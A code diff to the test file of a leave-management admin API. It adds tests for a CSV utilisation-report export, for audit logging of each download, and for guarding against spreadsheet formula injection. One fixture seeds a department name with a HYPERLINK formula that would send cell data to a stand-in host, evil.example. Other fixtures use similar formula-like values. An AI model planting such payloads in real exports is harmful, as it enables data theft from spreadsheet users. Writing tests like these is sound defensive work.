@@ -12,7 +12,7 @@ import type {
 import { auditEntries } from '../../db/schema/audit';
 import { leaveAdjustments, leaveEntitlements, leaveRequests } from '../../db/schema/leave';
 import { leaveCarryForwardRuns } from '../../db/schema/leave-admin';
-import { leaveTypes, publicHolidays } from '../../db/schema/organisation';
+import { departments, leaveTypes, publicHolidays } from '../../db/schema/organisation';
 import { createTestApp, type TestContext } from '../../test/app';
 import {
   NOT_ADMIN,
@@ -91,6 +91,7 @@ describe('leave admin: who may call', () => {
       ['GET', '/leave/admin/carry-forward/runs'],
       ['GET', '/leave/admin/reports/utilisation?year=2027'],
       ['GET', '/leave/admin/reports/utilisation.xlsx?year=2027'],
+      ['GET', '/leave/admin/reports/utilisation.csv?year=2027'],
     ];
     for (const department of NOT_ADMIN) {
       const headers = await departmentHeader(ctx, department);
@@ -108,6 +109,7 @@ describe('leave admin: who may call', () => {
     expect(await countOf(ctx, leaveAdjustments)).toBe(0);
     expect(await countOf(ctx, publicHolidays)).toBe(1);
     expect(await countOf(ctx, leaveEntitlements)).toBe(0);
+    expect((await trailOf(ctx)).filter((entry) => entry.action === 'report.export')).toEqual([]);
   });
 });
 
@@ -780,5 +782,70 @@ describe('utilisation report', () => {
     expect(sheet.getRow(2).values).toEqual([undefined, 'HR', 'Human Resources', 'LVE0001', 'Annual Leave', 1, 0, 2]);
     const bad = await call(ctx, 'itadmin', 'GET', '/leave/admin/reports/utilisation.xlsx?lang=fr');
     expect(bad.json()).toMatchObject({ field: 'lang' });
+  });
+
+  it('downloads the report as CSV, guarded, and audits each download: who, the year and how many rows', async () => {
+    const ctx = await setup();
+    await applyAs(ctx, 'hr', { leaveTypeId: 'LVE0001', startDate: '2027-03-08', endDate: '2027-03-09' });
+    await ctx.database.db.update(leaveTypes).set({ name: '@SUM(1+1)' }).where(eq(leaveTypes.id, 'LVE0001'));
+    const csv = await call(ctx, 'hradmin', 'GET', '/leave/admin/reports/utilisation.csv?year=2027');
+    expect(csv.statusCode).toBe(200);
+    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(csv.headers['content-disposition']).toContain('leave-utilisation-2027.csv');
+    expect(csv.body.replace(/^\uFEFF/, '').split('\r\n')).toEqual([
+      'Department,Department name,Leave type id,Leave type,Staff,Days taken,Days pending',
+      "HR,Human Resources,LVE0001,'@SUM(1+1),1,0,2",
+      '',
+    ]);
+    const malay = await call(ctx, 'itadmin', 'GET', '/leave/admin/reports/utilisation.csv?year=2027&lang=ms');
+    expect(malay.body).toContain('Jabatan,Nama jabatan');
+    const xlsx = await call(ctx, 'itadmin', 'GET', '/leave/admin/reports/utilisation.xlsx?year=2026');
+    expect(xlsx.statusCode).toBe(200);
+    const trail = (await trailOf(ctx)).filter((entry) => entry.action === 'report.export');
+    expect(trail.map(({ actorId, target, targetLabel, after }) => ({ actorId, target, targetLabel, after }))).toEqual([
+      {
+        actorId: users.hradmin.sub,
+        target: null,
+        targetLabel: 'leave-utilisation-2027.csv',
+        after: { filters: { year: 2027, lang: 'en' }, rows: 1, complete: true },
+      },
+      {
+        actorId: users.itadmin.sub,
+        target: null,
+        targetLabel: 'leave-utilisation-2027.csv',
+        after: { filters: { year: 2027, lang: 'ms' }, rows: 1, complete: true },
+      },
+      {
+        actorId: users.itadmin.sub,
+        target: null,
+        targetLabel: 'leave-utilisation-2026.xlsx',
+        after: { filters: { year: 2026, lang: 'en' }, rows: 0, complete: true },
+      },
+    ]);
+    const bad = await call(ctx, 'hradmin', 'GET', '/leave/admin/reports/utilisation.csv?year=20');
+    expect(bad.json()).toMatchObject({ field: 'year' });
+    expect((await trailOf(ctx)).filter((entry) => entry.action === 'report.export')).toHaveLength(3);
+  });
+
+  it('writes a name a spreadsheet would run as a formula as guarded text (docs/product/files-mail-logs.md §4)', async () => {
+    const ctx = await setup();
+    await applyAs(ctx, 'hr', { leaveTypeId: 'LVE0001', startDate: '2027-03-08', endDate: '2027-03-09' });
+    // An HR admin names departments and leave types.
+    const department = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
+    await ctx.database.db.update(departments).set({ name: department }).where(eq(departments.code, 'HR'));
+    await ctx.database.db.update(leaveTypes).set({ name: '\t-2+3' }).where(eq(leaveTypes.id, 'LVE0001'));
+    const response = await call(ctx, 'itadmin', 'GET', '/leave/admin/reports/utilisation.xlsx?year=2027');
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
+    expect(workbook.worksheets[0]!.getRow(2).values).toEqual([
+      undefined,
+      'HR',
+      `'${department}`,
+      'LVE0001',
+      "'\t-2+3",
+      1,
+      0,
+      2,
+    ]);
   });
 });
